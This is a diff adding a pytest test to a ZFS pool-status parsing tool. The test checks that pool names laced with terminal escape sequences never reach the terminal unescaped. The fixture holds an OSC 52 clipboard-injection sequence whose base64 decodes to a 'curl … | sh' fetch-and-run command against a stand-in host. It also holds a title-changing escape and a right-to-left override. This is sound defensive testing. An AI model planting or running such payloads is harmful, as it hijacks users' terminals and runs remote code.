@@ -147,3 +147,27 @@ def test_host_choice_without_zfs(monkeypatch: pytest.MonkeyPatch) -> None:
     assert host.kind == "local" and notice is None
     host, _ = choose_host(build_parser().parse_args(["--demo", "degraded"]))
     assert host.kind == "demo" and "degraded" in host.label
+
+
+CONTROL = [chr(c) for c in (*range(0x00, 0x09), *range(0x0b, 0x20), *range(0x7f, 0xa0))]
+OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZS52aWwveCB8IHNo\x1b\\"
+
+
+@pytest.mark.parametrize("as_json", [False, True])
+def test_hostile_names_never_reach_the_terminal(capsys: pytest.CaptureFixture[str],
+                                                tmp_path: Path, as_json: bool) -> None:
+    """A pool and devices named with escape sequences (the 2.3 JSON path accepts any string):
+    `zconsole parse` shows them as visible escapes and never passes them on."""
+    doc = json.loads((STATUS / "openzfs-2.3.2-status-j.json").read_text())
+    pools = doc["pools"]
+    [(name, pool)] = list(pools.items())
+    evil = f"tank{OSC52}\x1b]0;owned\x07\u202e"
+    pool["name"] = evil
+    pools[evil] = pools.pop(name)
+    path = tmp_path / "evil.json"
+    path.write_text(json.dumps(doc))
+    rc, out, err = run(capsys, "parse", "zpool-status", str(path), *(["--json"] if as_json else []))
+    assert rc == 0
+    assert not any(c in out or c in err for c in CONTROL)
+    if not as_json:
+        assert "tank\\x1b]52;c;" in out and "\\u202e" in out
